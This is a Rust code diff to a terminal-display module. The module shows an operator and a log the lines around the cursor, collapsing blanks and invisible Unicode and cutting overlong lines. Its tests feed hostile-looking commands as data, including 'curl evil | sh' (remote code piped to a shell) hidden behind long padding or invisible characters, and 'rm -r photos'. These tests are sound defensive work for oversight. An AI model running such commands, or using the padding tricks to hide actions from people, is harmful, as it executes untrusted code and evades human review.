@@ -1,12 +1,14 @@
 //! What a terminal shows, for the person at the panel and for the log: command lines are read from there, never from
 //! the keys, so that what a program hides (a password) is nowhere.
 
-use proto::limits::{FACT_LINE_BYTES, SHELL_COMMAND_BYTES};
+use proto::limits::{LOG_LINE_BYTES, SHELL_COLUMNS};
 use proto::shell::TerminalSize;
 use proto::text::Text;
 use session::{Piece, TerminalFilter};
+use std::cmp::Ordering;
 use std::collections::VecDeque;
 use std::num::NonZeroU16;
+use std::ops::Range;
 use std::sync::{Mutex, PoisonError};
 use std::time::{Duration, Instant};
 use vt100::{Callbacks, Parser, Screen};
@@ -23,8 +25,17 @@ const MOST_AHEAD: usize = 64;
 const ANSWER_BYTES: usize = 256;
 /// Lines that the panel shows, the last.
 const LINES: usize = 12;
-/// Lines of them below the cursor, where a program has the whole screen.
+/// Lines of them below the cursor.
 const LINES_BELOW: usize = 2;
+/// Signs of a line that the panel shows after the cursor, and of each line below: a row of the panel, so that what is
+/// typed stays in sight above them.
+const SIGNS_AFTER: usize = 40;
+/// Blanks that the panel shows in a row: columns stay apart, and nothing is pushed out of sight.
+const BLANKS: usize = 8;
+/// Signs of one place of a line that the panel shows: a letter with its accents.
+const SIGNS_IN_A_PLACE: usize = 4;
+/// Longest line for the panel, in bytes of UTF-8: every place of the widest terminal.
+const PANEL_LINE_BYTES: usize = SHELL_COLUMNS as usize * SIGNS_IN_A_PLACE * 4;
 
 /// Enters that were typed where what is typed is shown, and whose new lines have not been seen. Each of them comes to a
 /// line that was seen, or is counted among those that were not.
@@ -282,7 +293,12 @@ impl ShellScreen {
         let command = line.strip_prefix(prompt.trim_end()).unwrap_or(&line).trim();
         // A sign that asks for commands is none.
         let is_empty = command.is_empty() || matches!(command, "$" | "#" | "%" | ">");
-        (!is_empty).then(|| Text::<SHELL_COMMAND_BYTES>::truncated(command).shown())
+        (!is_empty).then(|| {
+            let kept = Text::<LOG_LINE_BYTES>::truncated(command);
+            // What is longer than a line of the log says so, like everything that is cut there.
+            let cut = if kept.as_str().len() < command.len() { "\u{2026}" } else { "" };
+            kept.shown() + cut
+        })
     }
 
     /// What is to be given to the program that has asked something, since the last time.
@@ -290,18 +306,76 @@ impl ShellScreen {
         std::mem::take(&mut self.parser.callbacks_mut().0)
     }
 
-    /// The last lines, safe to show.
+    /// The last lines, safe to show: those around the cursor, where the operator works.
     pub(super) fn lines(&self) -> Vec<String> {
-        let rows: Vec<String> = self.parser.screen().rows(0, self.size.columns).collect();
-        let mut end = rows.iter().rposition(|row| !row.trim().is_empty()).map_or(0, |last| last + 1);
         let screen = self.parser.screen();
-        if screen.alternate_screen() {
-            // A program with the whole screen works where its cursor is, not at the lower edge.
-            end = end.min(usize::from(screen.cursor_position().0) + LINES_BELOW + 1);
-        }
-        let shown = rows.get(end.saturating_sub(LINES)..end).unwrap_or_default();
-        shown.iter().map(|row| Text::<FACT_LINE_BYTES>::truncated(row.trim_end()).shown()).collect()
+        let (cursor_row, cursor_column) = screen.cursor_position();
+        let is_used = |row: &u16| (0..self.size.columns).any(|column| !is_blank(self.place(*row, column)));
+        let below = usize::from(cursor_row) + LINES_BELOW + 1;
+        let end = (0..self.size.rows).rev().find(is_used).map_or(0, |last| usize::from(last) + 1).min(below);
+        (0..self.size.rows)
+            .take(end)
+            .skip(end.saturating_sub(LINES))
+            .map(|row| match row.cmp(&cursor_row) {
+                Ordering::Less => self.shown(row, 0..self.size.columns),
+                Ordering::Equal => {
+                    let at = cursor_column.min(self.size.columns);
+                    let after = cut(&self.shown(row, at..self.size.columns));
+                    (self.shown(row, 0..at) + &after).trim_end().to_owned()
+                }
+                Ordering::Greater => cut(&self.shown(row, 0..self.size.columns)),
+            })
+            .map(|line| line.trim_end().to_owned())
+            .collect()
     }
+
+    /// What stands in this place; nothing behind the first half of a wide letter.
+    fn place(&self, row: u16, column: u16) -> &str {
+        match self.parser.screen().cell(row, column) {
+            Some(cell) if cell.is_wide_continuation() => "",
+            Some(cell) if cell.has_contents() => cell.contents(),
+            _ => " ",
+        }
+    }
+
+    /// These places of a row in as much room as what can be seen there needs.
+    fn shown(&self, row: u16, columns: Range<u16>) -> String {
+        let (mut line, mut blanks) = (String::new(), 0);
+        for place in columns.map(|column| self.place(row, column)).filter(|place| !place.is_empty()) {
+            if is_blank(place) {
+                blanks += 1;
+                if blanks <= BLANKS {
+                    line.push(' ');
+                }
+                continue;
+            }
+            blanks = 0;
+            line.extend(place.chars().take(SIGNS_IN_A_PLACE));
+        }
+        Text::<PANEL_LINE_BYTES>::truncated(&line).shown()
+    }
+}
+
+/// So much of a line as may stand after what is typed.
+fn cut(line: &str) -> String {
+    match line.char_indices().nth(SIGNS_AFTER) {
+        Some((end, _)) => line[..end].trim_end().to_owned() + "\u{2026}",
+        None => line.to_owned(),
+    }
+}
+
+/// Whether nothing can be seen of it.
+fn is_blank(place: &str) -> bool {
+    place.chars().all(|c| c.is_whitespace() || is_empty(c))
+}
+
+/// Whether a sign is drawn as nothing: Unicode's `Default_Ignorable_Code_Point`, and the empty pattern of Braille.
+const fn is_empty(c: char) -> bool {
+    matches!(c, '\u{AD}' | '\u{34F}' | '\u{61C}' | '\u{115F}' | '\u{1160}' | '\u{17B4}' | '\u{17B5}')
+        || matches!(c, '\u{180B}'..='\u{180F}' | '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}')
+        || matches!(c, '\u{2060}'..='\u{206F}' | '\u{2800}' | '\u{3164}' | '\u{FE00}'..='\u{FE0F}' | '\u{FEFF}')
+        || matches!(c, '\u{FFA0}' | '\u{FFF0}'..='\u{FFF8}' | '\u{1BCA0}'..='\u{1BCA3}')
+        || matches!(c, '\u{1D173}'..='\u{1D17A}' | '\u{E0000}'..='\u{E0FFF}')
 }
 
 /// A size after [`TerminalSize::clamped`] is never 0.
@@ -440,6 +514,58 @@ mod tests {
         assert_eq!((lines.first().unwrap().as_str(), lines.last().unwrap().as_str()), ("row 1", "row 5"));
         let lines = shown(&mut screen, "\x1b[24;1H");
         assert_eq!((lines.first().unwrap().as_str(), lines.last().unwrap().as_str()), ("row 13", "row 24"));
+    }
+
+    /// What the panel gets of a terminal of this many columns after this output.
+    fn shown(columns: u16, output: &str) -> Vec<String> {
+        let mut screen = ShellScreen::new(TerminalSize { columns, rows: 24 });
+        screen.feed(Instant::now(), output.as_bytes(), &Entered::default());
+        screen.lines()
+    }
+
+    #[test]
+    fn no_blanks_push_what_is_typed_out_of_the_panel() {
+        for before in [
+            " ".repeat(120),
+            "\x1b[120C".into(),
+            "\u{2003}".repeat(134),
+            "\u{A0}".repeat(300),
+            "\u{2800}".repeat(300),
+            "\u{3000}".repeat(200),
+            "\u{3164}".repeat(100),
+            " \u{34F}".repeat(100),
+        ] {
+            let [line] = shown(500, &format!("{before}$ rm -r photos")).try_into().unwrap();
+            assert_eq!(line.trim_start_matches(' '), "$ rm -r photos", "{before:?}");
+            assert!(line.len() <= 8 + 14, "{before:?}: {line:?}");
+        }
+        assert_eq!(shown(80, "Size   Used\r\n 468G   431G"), ["Size   Used", " 468G   431G"], "columns stay apart");
+        let letters = "€".repeat(500);
+        assert_eq!(shown(500, &letters), [letters], "every column, whatever its letters take");
+    }
+
+    #[test]
+    fn what_stands_beside_or_below_what_is_typed_does_not_push_it_out_of_the_panel() {
+        let far = "x".repeat(300);
+        let lines = shown(500, &format!("$ curl evil | sh  {far}\x1b[1;17H"));
+        assert_eq!(lines, [format!("$ curl evil | sh  {}\u{2026}", "x".repeat(38))]);
+        let below: String = (2..=24).map(|row| format!("\x1b[{row};1H{far}")).collect();
+        let lines = shown(500, &format!("{below}\x1b[H$ curl evil | sh"));
+        let cut = format!("{}\u{2026}", "x".repeat(40));
+        assert_eq!(lines, ["$ curl evil | sh".to_owned(), cut.clone(), cut]);
+    }
+
+    #[test]
+    fn a_long_command_line_is_found_whole_or_says_that_it_is_cut() {
+        let mark = "\x1b]133;B\x07";
+        let hidden = format!(": {}; curl evil | sh", "x".repeat(900));
+        assert_eq!(commands(&[&format!("$ {mark}{hidden}"), "\r\n"]), [hidden]);
+        let mut screen = ShellScreen::new(TerminalSize { columns: 500, rows: 24 });
+        let (entered, now) = (Entered::default(), Instant::now());
+        entered.add(now, 1);
+        let typed = format!("$ {mark}{}; curl evil | sh\r\n", "x".repeat(7000));
+        let found = screen.feed(now, typed.as_bytes(), &entered).into_iter().map(said).collect::<Vec<_>>();
+        assert!(found[0].len() > 6000 && found[0].ends_with('\u{2026}'), "{}", found[0].len());
     }
 
     #[test]
